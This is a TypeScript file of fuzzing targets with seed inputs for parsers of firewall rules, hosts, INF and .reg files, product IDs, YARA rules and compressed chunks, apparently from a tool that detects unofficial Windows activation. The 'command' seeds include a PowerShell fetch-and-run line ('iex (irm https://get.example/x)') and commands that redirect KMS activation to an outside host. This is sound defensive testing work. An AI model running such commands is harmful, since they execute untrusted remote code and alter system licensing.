// Targets on small texts and blobs: rules of the firewall, hosts, INF and .reg files, commands, keys, signatures, compressed chunks.
import { lookAtCommand } from '../../../formats/activation-script/command.ts';
import { activationSigns } from '../../../formats/activation-script/signs.ts';
import { targetsOf } from '../../../formats/command-line/targets.ts';
import { contentKind, tailKind } from '../../../formats/content-kind.ts';
import { parseFirewallRule } from '../../../formats/firewall/rule.ts';
import { encodeFrame, FrameReader } from '../../../formats/frame.ts';
import { hostsEntries } from '../../../formats/hosts/parse.ts';
import { driverFacts } from '../../../formats/inf/driver.ts';
import { parseInf } from '../../../formats/inf/inf.ts';
import { readKmsHost } from '../../../formats/kms-host/host.ts';
import { lzxDecoder } from '../../../formats/lzx/lzx.ts';
import { parseDigitalProductId, parseDigitalProductId4 } from '../../../formats/product-key/digital-product-id.ts';
import { embeddedArchives, programLayout } from '../../../formats/program-layout.ts';
import { parseRegFile } from '../../../formats/reg-file/parse.ts';
import { normaliseScript } from '../../../formats/script/normalise.ts';
import { reparseTarget, TAG_MOUNT_POINT, TAG_SYMLINK } from '../../../formats/wim/reparse.ts';
import { xpressDecoder } from '../../../formats/wim/xpress.ts';
import { requiredTexts } from '../../../formats/yara/required.ts';
import { peFile } from '../fixtures/bytes.ts';
import { mutated } from './mutate.ts';
import { orRefused } from './refused.ts';
import type { Target } from './target.ts';

const bytes = (words: string, encoding: BufferEncoding = 'utf8') => new Uint8Array(Buffer.from(words, encoding));

/** A target whose parsers take whatever bytes: there is no header to get past. */
function plain(id: string, sources: readonly string[], inputs: readonly Uint8Array[], run: (input: Uint8Array) => void): Target {
  return {
    id,
    sources,
    inputs: async () => inputs,
    change: (input, random, all) => mutated(input, random, all),
    run(input) {
      run(input);
      return input.length > 0;
    },
  };
}

const asText = (input: Uint8Array) => Buffer.from(input).toString('latin1');

export const textTargets: readonly Target[] = [
  plain(
    'firewall',
    ['formats/firewall/'],
    [bytes('v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=1688|LPort2_10=80-90|App=%SystemRoot%\\a.exe|Name=x|')],
    (input) => void parseFirewallRule(asText(input)),
  ),
  plain(
    'hosts',
    ['formats/hosts/'],
    [bytes('# a comment\r\n127.0.0.1 localhost # here\r\n::1 a b c\r\n0x7f.1\tkms.example\r\n'), bytes('\ufeff10.0.0.1 x\n', 'utf16le')],
    (input) => void [...hostsEntries(input)],
  ),
  plain(
    'inf',
    ['formats/inf/'],
    [
      bytes(
        '[Version]\r\nSignature="$WINDOWS NT$"\r\nClass=Net\r\nProvider=%P%\r\nDriverVer=01/01/2020,1.0\r\n[Manufacturer]\r\n%P%=M,NTamd64\r\n[M.NTamd64]\r\n%D%=I,PCI\\VEN_1\r\n[I.Services]\r\nAddService=a,2,S\r\n[S]\r\nStartType=0\r\nServiceBinary=%12%\\a.sys\r\n[Strings]\r\nP="x ""y"""\r\nD="z"\r\n',
      ),
    ],
    (input) => void driverFacts(parseInf(input)),
  ),
  plain(
    'reg-file',
    ['formats/reg-file/'],
    [
      bytes(
        'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\A]\r\n"a"="b\\\\c"\r\n"d"=dword:0000000f\r\n@=hex(2):41,00,\\\r\n  42,00,00,00\r\n"x"=-\r\n[-HKEY_LOCAL_MACHINE\\SOFTWARE\\B]\r\n',
      ),
      bytes('REGEDIT4\r\n[HKEY_CURRENT_USER\\A]\r\n"q"="\\"x\\""\r\n'),
    ],
    (input) => void parseRegFile(input),
  ),
  plain(
    'command',
    ['formats/activation-script/', 'formats/command-line/', 'formats/kms-host/'],
    [
      bytes('cmd.exe /c "start "" cscript //b %windir%\\system32\\slmgr.vbs /skms kms.example:1688 & slmgr /ato"'),
      bytes('powershell -c "iex (irm https://get.example/x)" ; rundll32 "C:\\a b.dll",Entry'),
      bytes(
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SoftwareProtectionPlatform" /v KeyManagementServiceName /d 127.0.0.2 /f',
      ),
    ],
    (input) => {
      const text = asText(input);
      lookAtCommand(text, ['kms.example']);
      targetsOf(text, 'C:\\Windows');
      readKmsHost(text);
      activationSigns(normaliseScript(input, 'batch'), ['kms.example']);
    },
  ),
  plain(
    'digital-product-id',
    ['formats/product-key/digital-product-id.ts'],
    [new Uint8Array(164).fill(7), new Uint8Array(0x4f8).fill(65)],
    (input) => {
      for (const parse of [parseDigitalProductId, parseDigitalProductId4]) orRefused(() => parse(input));
    },
  ),
  plain(
    'yara-source',
    ['formats/yara/'],
    [
      bytes(
        'import "pe"\nprivate rule p { condition: uint16(0) == 0x5A4D }\nrule a : t { meta: x = "y" strings: $a = "abcdefgh" nocase wide $b = { 41 4? [2-4] (42|43) 44 45 46 47 48 } $c = /ab+c{2,3}[x-z]\\x41/i condition: p and 2 of ($a,$b) or #c > 3 and for any i in (1..3) : (@a[i] < 10) }',
      ),
    ],
    (input) => void requiredTexts(asText(input)),
  ),
  plain(
    'content-kind',
    ['formats/content-kind.ts', 'formats/program-layout.ts'],
    [new Uint8Array(peFile('a.exe')), bytes('PK\x03\x04'.padEnd(600, 'x'), 'latin1'), bytes('Rar!\x1a\x07\x01\0', 'latin1')],
    (input) => {
      contentKind(input);
      tailKind(input, input.length);
      programLayout(input.subarray(0, 4096), input.length);
      embeddedArchives(input, 0);
    },
  ),
  plain(
    'reader-message',
    ['formats/frame.ts'],
    [new Uint8Array(Buffer.concat(encodeFrame({ type: 'done', contents: 1, same: [], cached: [] }, bytes('body'))))],
    (input) => {
      for (const _ of new FrameReader().push(input));
    },
  ),
  plain(
    'reparse',
    ['formats/wim/reparse.ts'],
    [new Uint8Array(Buffer.from(`0000080008000800000000005c003f003f005c0043003a00`, 'hex'))],
    (input) => {
      for (const tag of [TAG_SYMLINK, TAG_MOUNT_POINT]) orRefused(() => reparseTarget(tag, input));
    },
  ),
  plain(
    'xpress',
    ['formats/wim/xpress.ts', 'formats/wim/huffman.ts'],
    [new Uint8Array(300).map((_, at) => (at < 256 ? 0x88 : at))],
    (input) => {
      xpressDecoder(32768)(input, new Uint8Array(32768));
    },
  ),
  plain('lzx', ['formats/lzx/lzx.ts'], [new Uint8Array(400).map((_, at) => at * 37), new Uint8Array(40).fill(0x66)], (input) => {
    lzxDecoder(32768)(input, new Uint8Array(32768));
  }),
];
